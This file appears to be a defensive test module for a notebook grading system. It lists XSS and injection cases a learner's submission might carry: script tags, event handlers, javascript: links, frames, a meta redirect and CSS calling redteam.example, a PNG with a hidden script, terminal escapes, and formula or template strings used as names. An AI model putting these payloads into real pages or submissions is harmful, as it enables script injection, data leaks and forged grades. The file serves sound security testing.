"""Class G: what a learner writes and shows, on pages that others open."""
# ruff: noqa: E501

from __future__ import annotations

import base64
import struct
import zlib
from typing import Any

from .attack import FULL, HONEST, SCORES, WRONG, Attack, forging, twin

SCRIPT = "<script>alert('redteam')</script>"
_BROKEN_OUT = "</pre></code></section></textarea></style></title>" + SCRIPT
_EVENTS = "<img src=x onerror=alert('redteam')><svg onload=alert('redteam')><body onload=alert(1)>"


def _shows(name: str, tries: str, html: str, mime: str = "text/html") -> Attack:
    code = f"from IPython.display import display\ndisplay({{{mime!r}: {html!r}, 'text/plain': 'x'}}, raw=True)"
    return forging(name, tries, code)


def _words(name: str, tries: str, markdown: str, **more: Any) -> Attack:
    """Active content in an answer in words and in a text cell of the learner's own."""

    def add(content):
        content["cells"].append({"cell_type": "markdown", "source": markdown, "metadata": {}, "id": "note",
                                 "attachments": {"x.svg": {"image/svg+xml": SCRIPT}}})  # fmt: skip

    return Attack(name, tries, answers={"scores": "pass" + WRONG, "words": markdown}, edit=add,
                  earns={**HONEST, "words": None}, **more)  # fmt: skip


def _png(text: bytes) -> str:
    """A sound PNG of one pixel that carries a text."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    raw = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    raw += chunk(b"tEXt", b"Comment\0" + text) + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")
    return base64.b64encode(raw + text).decode()


ATTACKS = (
    _words("script-in-words", "Writes a script into its words.", f"# Hi {SCRIPT}\n\n{_BROKEN_OUT}"),
    _words(
        "events-in-words",
        "Writes elements that run when they fail or load.",
        _EVENTS + "<details open ontoggle=alert(1)>",
    ),
    _words(
        "links-in-words",
        "Writes links that run, in every spelling.",
        "[a](javascript:alert(1)) <a href='java\tscript:alert(1)'>b</a> [c](data:text/html,<script>) "
        "[d](vbscript:x) <javascript:alert(1)> ![e](https://redteam.example/pixel.png)",
    ),
    _words(
        "frames-in-words",
        "Writes frames, forms, objects and a base address.",
        "<iframe src=//redteam.example></iframe><object data=x></object><embed src=x><form action=//redteam.example>"
        "<input name=x autofocus onfocus=alert(1)></form><base href=//redteam.example><link rel=stylesheet href=//x>",
    ),
    _words(
        "refresh-in-words", "Sends the reader elsewhere.", "<meta http-equiv=refresh content='0;url=//redteam.example'>"
    ),
    _words(
        "style-in-words",
        "Restyles the page and lets it call home.",
        "<style>@import '//redteam.example/x.css'; .points { background: url(//redteam.example/?leak) } "
        "body { visibility: hidden }</style><p style='position:fixed;inset:0;background:#fff'>6 of 6 points</p>",
    ),
    _words(
        "formula-in-words",
        "Hides a link in a formula.",
        "$\\href{javascript:alert(1)}{x}$ $$\\unicode{<script>alert(1)</script>}$$ {{ 7 * 7 }} {% for %}",
    ),
    _shows("html-output", "Shows HTML with a script.", SCRIPT + _EVENTS),
    _shows("javascript-output", "Shows a script.", "alert('redteam')", "application/javascript"),
    _shows(
        "svg-output",
        "Shows a drawing with a script.",
        f"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>{SCRIPT}<foreignObject/></svg>",
        "image/svg+xml",
    ),
    _shows("markdown-output", "Shows Markdown with a script.", SCRIPT, "text/markdown"),
    _shows("latex-output", "Shows a formula with a link.", "\\href{javascript:alert(1)}{x}", "text/latex"),
    _shows("picture-that-is-a-page", "Shows a picture that is a page.", "x' onerror='alert(1)", "image/png"),
    _shows("picture-with-a-text", "Hides a page in a picture.", _png(SCRIPT.encode()), "image/png"),
    _shows("jpeg-that-is-a-page", "Shows a JPEG that is a page.", '"><script>alert(1)</script>', "image/jpeg"),
    _shows("widget-output", "Shows a widget.", "{}", "application/vnd.jupyter.widget-view+json"),
    forging("printed-html", "Prints HTML.", f"print({_BROKEN_OUT + _EVENTS!r})"),
    forging(
        "printed-colours",
        "Prints terminal codes, direction marks and other unseen characters.",
        "print('\\x1b[31mred\\x1b]0;title\\x07\\x1b[2J \\u202e6 fo 6\\u202c \\x00\\x08\\x9b31m')",
    ),
    Attack(
        "html-in-an-error",
        "Fails with HTML, in name and text.",
        answers={"scores": f"raise type({SCRIPT!r}, (Exception,), {{}})({_BROKEN_OUT + _EVENTS!r})"},
    ),
    Attack(
        "html-in-an-answers-error",
        "Answers with an error whose name and text are HTML.",
        answers={
            "scores": f"def scores(query, key):\n    raise type({SCRIPT!r}, (Exception,), {{}})({_BROKEN_OUT + _EVENTS!r})"
        },
    ),
    Attack(
        "html-in-an-answer",
        "Returns HTML, and prints it.",
        answers={
            "scores": f"def scores(query, key):\n    print({_BROKEN_OUT!r})\n    return {_BROKEN_OUT + _EVENTS!r}"
        },
    ),
    Attack(
        "html-in-keys",
        "Returns a dict whose keys are HTML.",
        answers={"scores": f"def scores(query, key): return {{{_BROKEN_OUT!r}: 1.0, '`{_EVENTS}`': {{}}}}"},
    ),
    Attack(
        "html-in-a-class",
        "Returns an object whose class is named in HTML.",
        answers={"scores": f"def scores(query, key): return type({_BROKEN_OUT!r}, (), {{}})()"},
    ),
    Attack(
        "html-in-code",
        "Writes HTML into docstring, comments and names.",
        answers={
            "scores": f'def scores(query, key):\n    """{_BROKEN_OUT}{_EVENTS}"""\n    return key * 0  # {SCRIPT}'
        },
    ),
    Attack(
        "html-in-cell-ids",
        "Names its cells in HTML.",
        answers={"scores": "pass" + WRONG},
        edit=lambda content: content["cells"].append(
            {
                "cell_type": "code",
                "source": "1/0",
                "metadata": {"nbgrader": {"grade_id": SCRIPT}, "name": SCRIPT},
                "id": SCRIPT,
            }
        ),
    ),
    Attack(
        "html-as-a-name",
        "Is a student whose name is HTML.",
        student="<img src=x onerror=alert(1)>",
        answers={"scores": "pass" + WRONG},
    ),
    Attack(
        "formula-as-a-name",
        "Is a student whose name a spreadsheet would compute.",
        student="=HYPERLINK(1)",
        answers={"scores": "pass" + WRONG},
    ),
    Attack(
        "template-as-a-name",
        "Is a student whose name is a template.",
        student="{{ 7 * 191 }}",
        answers={"scores": "x = '{{ 7 * 191 }}'" + WRONG},
    ),
    Attack(
        "back-ticks",
        "Leaves the quotes that reports set code with open.",
        answers={"scores": f"def scores(query, key):\n    raise ValueError('` <b>{SCRIPT}</b> ` ` *{SCRIPT}* `')"},
    ),
    Attack(
        "claims-on-the-page",
        "Prints a report that says it has all points.",
        answers={
            "scores": "def scores(query, key):\n    print('scores: all right, 2 of 2 points\\n  ✓ passed')\n    return key * 0"
        },
    ),
)

TWINS = (
    twin(
        "writes-about-html",
        "Writes < and &, and code, in its words.",
        answers={"words": "If `a < b` & *b* > 0, then <query> asks; $x<y$."},
        earns={**FULL, "words": None},
    ),
    twin(
        "shows-a-table",
        "Shows an HTML table, as data frames do.",
        cells=(
            ("imports", "from IPython.display import HTML, Markdown\nHTML('<table><tr><td>1</td></tr></table>')"),
            ("scores", "Markdown('**bold**')"),
        ),
    ),
    twin(
        "prints-signs",
        "Prints signs that mean something in HTML.",
        answers={"scores": SCORES.replace("return", "print('<3 & \"so on\" `x`')\n    return")},
    ),
    twin("name-with-signs", "Has a name with accents, an apostrophe and a plus.", student="Zoë O'Neil+Ünal"),
    twin(
        "shows-a-picture",
        "Shows a picture.",
        cells=(
            ("imports", "import matplotlib.pyplot as plt\nplt.figure(figsize=(1, 1)); plt.plot([1, 2]); plt.show()"),
        ),
    ),
)
